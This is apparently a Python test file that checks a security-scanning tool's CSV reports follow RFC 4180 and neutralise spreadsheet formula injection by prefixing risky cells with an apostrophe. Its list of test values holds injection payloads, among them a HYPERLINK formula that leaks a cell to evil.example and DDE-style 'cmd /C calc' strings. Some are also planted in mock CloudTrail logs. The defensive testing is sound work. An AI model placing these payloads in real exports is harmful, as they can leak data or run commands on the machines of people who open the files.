"""CSV outputs: RFC 4180, and a cell written from a hostile value opens as text.

A spreadsheet runs a cell starting with = + - @ (or a tab or CR before them) as a
formula. Every such cell of findings.csv and residency.csv starts with an apostrophe,
which spreadsheets take as "text" and do not show; all other text is written as it is,
quoted where RFC 4180 needs it (commas, quotes, line breaks), so every record stays one
row and every value reads back exactly.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from borderwatch.cli import main
from borderwatch.model.findings import AppliedException, Finding, Severity, Status, finding_id
from borderwatch.model.scan import ResidencyRow, ScanResult
from borderwatch.report.csvcells import FORMULA_START, cell, write_csv
from borderwatch.report.findings_csv import COLUMNS, FindingsCsvReporter
from borderwatch.report.residency_csv import ResidencyCsvReporter

CASES = Path(__file__).parent / "cases"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'a "quoted" value, with a comma',
    "two\nlines\r\nand a CRLF",
    "Zürich 北京 Ελλάδα 🙂 \u202eevil",
    "=",
    "",
]


def _as_text(value: str) -> str:
    """What a cell must hold for a value: the value, behind an apostrophe if it would run."""
    return "'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _result(findings: tuple[Finding, ...], residency: tuple[ResidencyRow, ...]) -> ScanResult:
    return ScanResult(
        policy_name="p",
        policy_version="1",
        policy_sha256="0" * 64,
        started_at="2026-01-01T00:00:00Z",
        finished_at="2026-01-01T00:00:01Z",
        fail_on=Severity.HIGH,
        findings=findings,
        inputs=(),
        residency=residency,
        access_by_country=(),
    )


def test_every_hostile_value_in_every_column_reads_back_as_text() -> None:
    findings = tuple(
        Finding(
            id=finding_id("access.x", value),
            rule="access.x",
            severity=Severity.HIGH,
            status=Status.MUTED,
            title=value,
            message=value,
            resource=value,
            principal=value,
            person=value,
            country=value,
            data_classes=(value,),
            first_seen=value,
            last_seen=value,
            evidence={"callers": [value]},
            exception=AppliedException(value, value, value, value, value),
        )
        for value in HOSTILE
    )
    residency = tuple(
        ResidencyRow(
            value, value, value, value, value, (value,), (value,), True, 1, value, (value,), value
        )
        for value in HOSTILE
    )
    result = _result(findings, residency)

    rows = _rows(FindingsCsvReporter().render(result))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 1 + len(HOSTILE)  # a line break inside a value stays inside its row
    text_columns = [c for c in COLUMNS if c not in {"id", "rule", "severity", "status", "count"}]
    text_columns = [c for c in text_columns if c not in {"location", "location_kind", "evidence"}]
    # The history's columns hold our own values (a status, a date, a number); no history here.
    history = ["history_status", "history_first_day", "history_age_days"]
    text_columns = [c for c in text_columns if c not in history]
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        record = dict(zip(COLUMNS, row, strict=True))
        assert [record[c] for c in history] == ["", "", ""]
        for column in text_columns:
            assert record[column] == _as_text(value), (column, value)
        assert json.loads(record["evidence"]) == {"callers": [value]}  # JSON starts with {

    rows = _rows(ResidencyCsvReporter().render(result))
    assert len(rows) == 1 + len(HOSTILE)
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        assert row[:7] == [_as_text(value)] * 7
        assert row[7:9] == ["true", "1"]
        assert row[9:] == [_as_text(value)] * 3


def test_the_files_are_rfc_4180() -> None:
    data = write_csv(("a", "b"), [["x,y", 'say "hi"'], ["line\nbreak", "ü"]])
    assert data == b'a,b\r\n"x,y","say ""hi"""\r\n"line\nbreak",\xc3\xbc\r\n'


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_any_text_reads_back_behind_at_most_one_apostrophe(values: list[str]) -> None:
    (row,) = _rows(write_csv(["c"] * len(values), [values]))[1:]
    for got, value in zip(row, values, strict=True):
        assert got == _as_text(value)
        assert not got.startswith(FORMULA_START)
    assert cell(None) == "" and cell(True) == "true" and cell(-5) == "'-5"


def _cloudtrail(principal: str, n: int) -> str:
    """One CloudTrail record: `principal` reads the protected bucket from a CN address."""
    return json.dumps(
        {
            "eventVersion": "1.08",
            "userIdentity": {"type": "IAMUser", "arn": principal, "accountId": "111122223333"},
            "eventTime": "2026-03-01T10:00:00Z",
            "awsRegion": "us-east-1",
            "sourceIPAddress": "36.96.1.1",
            "eventID": f"hostile-{n}",
            "recipientAccountId": "111122223333",
            "readOnly": True,
            "eventSource": "s3.amazonaws.com",
            "eventName": "GetObject",
            "requestParameters": {"bucketName": "user-media", "key": "k"},
            "resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::user-media/k"}],
        }
    )


def test_a_hostile_principal_from_a_log_opens_as_text(tmp_path: Path) -> None:
    """The principal of a CloudTrail record is =HYPERLINK(...), +cmd, -1+1, @SUM...: the
    scan finds the access, and findings.csv holds each as text, in its principal cell and
    in the message that starts with it."""
    principals = [v for v in HOSTILE if v.strip()]
    log = tmp_path / "trail.jsonl"
    log.write_text("\n".join(_cloudtrail(p, n) for n, p in enumerate(principals)) + "\n")
    case = CASES / "access-jurisdiction"
    out = tmp_path / "out"
    args = ["scan", "--policy", str(case / "policy.yaml"), "--inventory"]
    args += [str(case / "inventory.csv"), "--events", str(log), "--out", str(out), "--quiet"]
    done = CliRunner().invoke(main, [*args, "--outputs", "csv,json"])
    assert done.exit_code == 1, done.output
    findings = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    rows = list(csv.DictReader((out / "findings.csv").open(newline="", encoding="utf-8")))
    assert [row["id"] for row in rows] == [f["id"] for f in findings]
    by_principal = {f["principal"]: row for f, row in zip(findings, rows, strict=True)}
    for formula in ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "-1+1"):
        assert formula in by_principal, sorted(by_principal)
    for finding, row in zip(findings, rows, strict=True):
        for column in ("principal", "message", "resource", "country", "title"):
            assert row[column] == _as_text(finding[column] or ""), column
    hyperlink = by_principal['=HYPERLINK("http://evil.example/?leak="&A1,"click me")']
    assert hyperlink["principal"].startswith("'=HYPERLINK(")
    assert hyperlink["message"].startswith("'=HYPERLINK(")
